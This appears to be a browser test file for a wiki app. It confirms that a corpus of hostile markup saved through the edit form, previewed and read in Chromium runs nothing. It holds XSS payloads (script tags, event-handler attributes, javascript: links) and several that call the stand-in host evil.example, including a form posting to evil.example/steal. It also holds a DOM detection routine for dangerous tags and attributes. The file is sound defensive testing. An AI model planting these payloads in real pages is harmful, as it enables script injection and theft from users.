"""Hostile content in a real browser: a page whose text is the whole hostile-input corpus is saved
through the edit form, read and previewed in Chromium, and nothing injected runs."""
import re

from playwright.sync_api import expect

from ..hostile_inputs import HOSTILE
from .conftest import RECORD_BUSY, create_page, unique

# payloads that leave a trace if they ever run: a global, or a request to a host we do not serve
TELLTALE = [
    "<script>window.__pwned = 'script'</script>",
    '<img src=x onerror="window.__pwned = \'img\'">',
    '<svg onload="window.__pwned = \'svg\'"></svg>',
    '<details open ontoggle="window.__pwned = \'details\'">x</details>',
    '<input autofocus onfocus="window.__pwned = \'input\'">',
    '<body onload="window.__pwned = \'body\'">',
    '<p onmouseover="window.__pwned = \'hover\'">hover me</p>',
    '[[x" onmouseover="window.__pwned = \'wikilink\']]',
    '<a href="javascript:window.__pwned=\'link\'">click me</a>',
    "[click me too](javascript:window.__pwned='md')",
    '<script src="https://evil.example/pwn.js"></script>',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/y.css); body { background: url(https://evil.example/z.png) }</style>",
    '<object data="https://evil.example/x.swf"></object>',
    '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/steal"><button>Send</button></form>',
]
BODY = "Hostile corpus follows.\n\n" + "\n\n".join(HOSTILE + TELLTALE) + "\n\nEnd of the corpus."

# what is left in the rendered page must be inert: checked in the DOM the browser built
INERT = """() => {
  const bad = [];
  const root = document.querySelector('.wiki-body, .preview-pane');
  for (const el of root.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'form', 'input', 'button', 'meta', 'base', 'link',
         'style', 'svg', 'math', 'video', 'audio', 'source', 'details', 'frame'].includes(tag)) {
      bad.push('<' + tag + '>');
    }
    for (const attr of el.attributes) {
      const value = attr.value.replace(/[\\u0000-\\u0020\\u200b-\\u200f]/g, '').toLowerCase();
      if (attr.name.startsWith('on') || attr.name === 'style' || attr.name === 'srcdoc') {
        bad.push(tag + '[' + attr.name + ']');
      }
      if (/^(javascript|vbscript|data):/.test(value) && attr.name !== 'class') {
        bad.push(tag + '[' + attr.name + '=' + attr.value + ']');
      }
    }
  }
  return bad;
}"""

# what a curious reader does: hover, focus and click everything in the text (links open nowhere:
# clicks are cancelled after the handlers had their chance)
POKE = """() => {
  const cancel = e => e.preventDefault();
  document.addEventListener('click', cancel, true);
  for (const el of document.querySelectorAll('.wiki-body *, .preview-pane *')) {
    for (const type of ['mouseover', 'mouseenter', 'focus', 'click']) {
      el.dispatchEvent(new MouseEvent(type, {bubbles: true, cancelable: true}));
    }
    if (el.focus) { el.focus(); }
  }
  document.removeEventListener('click', cancel, true);
}"""


def watched(page):
    """Also note our own images that 404: ``<img src=x>`` is harmless markup the corpus leaves."""
    page.missing_images = []
    page.on("response", lambda r: r.status == 404 and r.request.resource_type == "image"
            and page.missing_images.append(r.url))
    return page


def assert_nothing_ran(page, where):
    watcher = page.watcher
    assert page.evaluate("typeof window.__pwned") == "undefined", where
    assert watcher.dialogs == [], where
    assert watcher.foreign_requests == [], where
    # the only console errors allowed are the browser's notes about those missing images
    not_found = [e for e in watcher.console_errors if e.startswith("Failed to load resource") and "404" in e]
    assert [e for e in watcher.console_errors if e not in not_found] == [], where
    assert len(not_found) <= len(page.missing_images), (where, page.missing_images)
    assert page.evaluate("location.pathname").startswith("/wiki/"), where


def test_hostile_corpus_saved_through_the_form_runs_nothing(new_page):
    author = watched(new_page(user="alice"))
    address = create_page(author, unique("Hostile journey"), "Placeholder before the corpus.")
    author.goto(address + "/edit")
    author.get_by_label("Text", exact=True).fill(BODY)

    # the live preview puts the server's HTML into the page with innerHTML
    author.evaluate(RECORD_BUSY)
    author.get_by_role("button", name="Preview").click()
    pane = author.locator(".preview-pane")
    expect(pane).to_contain_text("End of the corpus.")
    expect(pane).not_to_have_attribute("aria-busy", "true")
    assert author.evaluate("window.__busySeen") is True  # the pane showed progress meanwhile
    assert author.evaluate(INERT) == []
    author.evaluate(POKE)
    assert_nothing_ran(author, "preview")

    author.get_by_label("Edit summary").fill("<img src=x onerror=alert(1)> summary")
    author.get_by_role("button", name="Save").click()
    expect(author).to_have_url(re.compile(re.escape(address) + "$"))
    expect(author.locator(".wiki-body")).to_contain_text("End of the corpus.")
    # text the reader should see as text, not as markup
    expect(author.locator(".wiki-body")).to_contain_text("Hostile corpus follows.")

    for label, options in (("with the site's CSP", {}),
                           # the sanitizer alone must be enough: the CSP is a second line only
                           ("without CSP", {"bypass_csp": True})):
        reader = watched(new_page(user="carol", **options))
        for path in (address, address + "/revisions/2", address + "/history", address + "/diff?to=2"):
            response = reader.goto(path)
            assert response.status == 200, path
            reader.wait_for_load_state("load")
            if reader.locator(".wiki-body").count():
                assert reader.evaluate(INERT) == [], (label, path)
            reader.evaluate(POKE)
            assert_nothing_ran(reader, f"{path} {label}")
        # the hostile edit summary is shown as text in the history
        reader.goto(address + "/history")
        expect(reader.locator("tr#r2")).to_contain_text("<img src=x onerror=alert(1)> summary")
        assert_nothing_ran(reader, f"history again {label}")
    # control: in that CSP-less browser the probe does notice a handler that runs
    reader.evaluate("""() => document.querySelector('main').insertAdjacentHTML(
        'beforeend', '<img src=x onerror="window.__pwned = 1">')""")
    reader.wait_for_function("window.__pwned === 1")
